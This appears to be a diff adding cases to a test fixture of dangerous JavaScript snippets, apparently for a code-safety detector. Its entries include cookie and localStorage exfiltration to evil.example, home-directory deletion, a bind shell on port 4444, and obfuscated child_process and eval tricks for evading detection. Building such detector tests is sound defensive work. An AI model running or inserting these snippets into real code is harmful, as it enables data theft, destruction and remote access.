@@ -153,3 +153,40 @@ document.addEventListener('keydown', (e) => fetch('https://evil.example/k?' + e.
 location.href = 'https://evil.example/?' + document.cookie;
 %% rm home by fs-extra
 require('fs-extra').removeSync(require('os').homedir());
+%% promise chain require
+Promise.resolve().then(() => require('child_process')).then((m) => m.execSync('id'));
+%% event handler
+process.on('exit', () => require('child_process').execSync('rm -rf ~/x'));
+%% json parsed module name
+const { m } = JSON.parse('{"m":"child_process"}');
+require(m).exec('id');
+%% slice name
+require('xxchild_process'.slice(2)).exec('id');
+%% substring name
+const n = 'child_processX'.substring(0, 13);
+require(n).execSync('id');
+%% spread object
+const lib = { ...require('child_process') };
+lib.execSync('id');
+%% generator require
+function* g() { yield require('child_process'); }
+g().next().value.exec('id');
+%% default export object
+export default { run: (c) => require('child_process').exec(c) };
+%% eval comma template
+(0, eval)(`${'1'}+1`);
+%% Function constructor new.target
+const { constructor: F } = () => {};
+F('return 9')();
+%% async Function
+const AF = (async () => {}).constructor;
+AF('return 1')();
+%% fs promises unlink home
+import { readdir, unlink } from 'fs/promises';
+for (const f of await readdir('/home')) await unlink('/home/' + f);
+%% exfil via image
+new Image().src = `https://evil.example/?${document.cookie}`;
+%% post localstorage
+fetch('https://evil.example', { method: 'POST', body: JSON.stringify(localStorage) });
+%% net backdoor
+require('net').createServer((s) => { const p = require('child_process').spawn('sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);
